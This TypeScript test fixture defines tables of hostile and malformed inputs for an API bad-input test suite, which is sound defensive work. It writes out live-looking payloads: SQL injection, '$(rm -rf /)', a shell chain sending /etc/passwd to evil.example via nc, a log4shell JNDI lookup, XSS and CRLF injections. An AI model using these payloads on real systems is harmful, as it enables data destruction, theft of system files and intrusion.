/**
 * Values a hostile or broken client sends in place of a name, an id or a field: the tables the
 * bad-input suite crosses with every field of every endpoint.
 */
export const HOSTILE_STRINGS: Record<string, string> = {
  'SQL quote': "acme'; drop table resources; --",
  'SQL tautology': `" or 1=1 --`,
  'SQL union': "x' union select oauth_access_token_sealed from resources --",
  'shell substitution': '$(rm -rf /)',
  'shell backticks': '`id`',
  'shell chain': '; cat /etc/passwd | nc evil.example 9',
  'path traversal': '../../../etc/passwd',
  'encoded traversal': '..%2F..%2Fadmin',
  'backslash traversal': '..\\..\\windows\\win.ini',
  'script tag': '<script>alert(1)</script>',
  'attribute breakout': '"><img src=x onerror=alert(1)>',
  'CRLF header injection': 'acme\r\nSet-Cookie: session=evil',
  'CRLF response split': 'x\r\n\r\nHTTP/1.1 200 OK\r\n',
  NUL: 'acme\u0000admin',
  'percent NUL': 'acme%00',
  'control characters': '\u0001\u0007\u001b[31mred\u001b[0m',
  'RTL override': '\u202Eemca\u202C',
  'zero-width': 'ac\u200Bme\uFEFF',
  emoji: '🪣🔥👩‍💻',
  'lone surrogate': 'x\uD800y',
  fullwidth: 'ａｃｍｅ',
  'combining marks': 'a\u0301\u0302\u0303\u0304\u0305',
  'template injection': '{{7*7}}${7*7}#{7*7}',
  log4shell: '${jndi:ldap://evil.example/a}',
  'format string': '%s%s%n%x',
  overlong: 'a'.repeat(10_000),
  empty: '',
  spaces: '   ',
}

/** Values of the wrong JSON type for a string field. */
export const WRONG_TYPES: Record<string, unknown> = {
  number: 12345,
  'negative float': -1.5e308,
  boolean: true,
  null: null,
  array: ['standard'],
  object: {$ne: null},
  'nested arrays': [[[[[]]]]],
}

/** Ids that look almost like uuids. */
export const NOT_UUIDS: Record<string, string> = {
  'too short': '9c3b2a1d-5e4f-4a3b-8c7d-6e5f4a3b2c1',
  'too long': '9c3b2a1d-5e4f-4a3b-8c7d-6e5f4a3b2c1d0',
  'no dashes': '9c3b2a1d5e4f4a3b8c7d6e5f4a3b2c1d',
  'not hex': 'zc3b2a1d-5e4f-4a3b-8c7d-6e5f4a3b2c1d',
  braced: '{9c3b2a1d-5e4f-4a3b-8c7d-6e5f4a3b2c1d}',
  'trailing newline': '9c3b2a1d-5e4f-4a3b-8c7d-6e5f4a3b2c1d\n',
  urn: 'urn:uuid:9c3b2a1d-5e4f-4a3b-8c7d-6e5f4a3b2c1d',
}

export const HOSTILE_OR_NOT_UUID = {...HOSTILE_STRINGS, ...NOT_UUIDS}

export function entries<T>(table: Record<string, T>): [string, T][] {
  return Object.entries(table)
}
